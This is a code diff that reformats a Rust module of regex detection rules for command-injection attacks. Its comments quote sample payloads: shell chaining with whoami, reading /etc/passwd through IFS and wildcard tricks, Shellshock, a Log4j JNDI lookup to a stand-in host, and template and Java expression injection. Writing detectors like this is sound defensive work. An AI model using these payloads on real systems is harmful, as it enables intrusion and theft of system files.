@@ -32,7 +32,10 @@ macro_rules! shell {
 /// Name and pattern.
 pub(super) const RULES: &[(&str, &str)] = &[
     // Who and where the service is: `x; whoami`.
-    ("command_injection.reconnaissance", shell![r"(?:[;|&]|%(?:0[ad]|3b|7c|26))" DIR r"(?:whoami(?:\.exe)?(?:\s/\w+)?|uname\s+-a)" END]),
+    (
+        "command_injection.reconnaissance",
+        shell![r"(?:[;|&]|%(?:0[ad]|3b|7c|26))" DIR r"(?:whoami(?:\.exe)?(?:\s/\w+)?|uname\s+-a)" END],
+    ),
     // A command behind a value: `127.0.0.1; cat /tmp/key`.
     (
         "command_injection.chained_command",
@@ -69,7 +72,9 @@ pub(super) const RULES: &[(&str, &str)] = &[
     // Words without white space: `cat${IFS}/etc/passwd`, `{cat,/etc/passwd}`.
     (
         "command_injection.hidden_space",
-        shell![r"(?:[a-z;|&)]\$\{?ifs\b|\{(?:cat|ls|curl|wget|nc|ping|bash|sh|echo|rm|id|chmod),(?:[-/$\x22']|http)|[a-z]\$\{?(?:path|home|pwd|shellopts):\d|\bx=\$'[^']*'&&)"],
+        shell![
+            r"(?:[a-z;|&)]\$\{?ifs\b|\{(?:cat|ls|curl|wget|nc|ping|bash|sh|echo|rm|id|chmod),(?:[-/$\x22']|http)|[a-z]\$\{?(?:path|home|pwd|shellopts):\d|\bx=\$'[^']*'&&)"
+        ],
     ),
     // Names by their pattern: `/???/c?t /e?c/p?sswd`.
     ("command_injection.wildcard_path", shell![r"/(?:\?\?[?n]|b\?n|bi\?|\?in|us\?|\?sr|e\?c|et\?|\?tc)/[\w?*\[\]/]+"]),
@@ -116,11 +121,16 @@ pub(super) const RULES: &[(&str, &str)] = &[
         ],
     ),
     // A function of Bash that goes on: `() { :;}; id`.
-    ("command_injection.shellshock", shell![r"(?:^\s*\(\)\s*\{[^}]*\}|\(\)\s*\{\s*(?::|_)\s*;?\s*\}\s*;|\(\)\s*\{\s*_;?\s*\}\s*>)"]),
+    (
+        "command_injection.shellshock",
+        shell![r"(?:^\s*\(\)\s*\{[^}]*\}|\(\)\s*\{\s*(?::|_)\s*;?\s*\}\s*;|\(\)\s*\{\s*_;?\s*\}\s*>)"],
+    ),
     // Look-ups of Log4j, plain and nested: `${jndi:ldap://evil.example/a}`.
     (
         "command_injection.log4j_lookup",
-        shell![r"(?:\$|%24)(?:\{|%7b)\s*(?:jndi\s*:|(?:[^}]*(?:\$|%24)(?:\{|%7b))?(?:(?:lower|upper)(?::|%3a)[^}]|[^{}]*::-\w|(?:env|sys|main|date|ctx|k8s|map|base64|bundle|java):[^{}]*:-[a-z:]\}|date:'\w'\}|j\}?\$\{))"],
+        shell![
+            r"(?:\$|%24)(?:\{|%7b)\s*(?:jndi\s*:|(?:[^}]*(?:\$|%24)(?:\{|%7b))?(?:(?:lower|upper)(?::|%3a)[^}]|[^{}]*::-\w|(?:env|sys|main|date|ctx|k8s|map|base64|bundle|java):[^{}]*:-[a-z:]\}|date:'\w'\}|j\}?\$\{))"
+        ],
     ),
     // A template of Jinja or Twig that reaches for the runtime.
     (
@@ -131,7 +141,12 @@ pub(super) const RULES: &[(&str, &str)] = &[
         ],
     ),
     // A template that only shows it is one: `{{7*7}}`.
-    ("command_injection.template_probe", shell![r"(?:\{\{|[$#*@~]\{|<%=|\[\[|\{=|\$\{\{|@\()\s*(?:\d+\s*\*\s*['\x22]?\d+['\x22]?|'\w'\.touppercase\(\)|\d+/0)\s*(?:\}|%>|\]\]|\))"]),
+    (
+        "command_injection.template_probe",
+        shell![
+            r"(?:\{\{|[$#*@~]\{|<%=|\[\[|\{=|\$\{\{|@\()\s*(?:\d+\s*\*\s*['\x22]?\d+['\x22]?|'\w'\.touppercase\(\)|\d+/0)\s*(?:\}|%>|\]\]|\))"
+        ],
+    ),
     // An expression of Java: `${T(java.lang.Runtime).getRuntime().exec('id')}`.
     (
         "command_injection.java_expression",
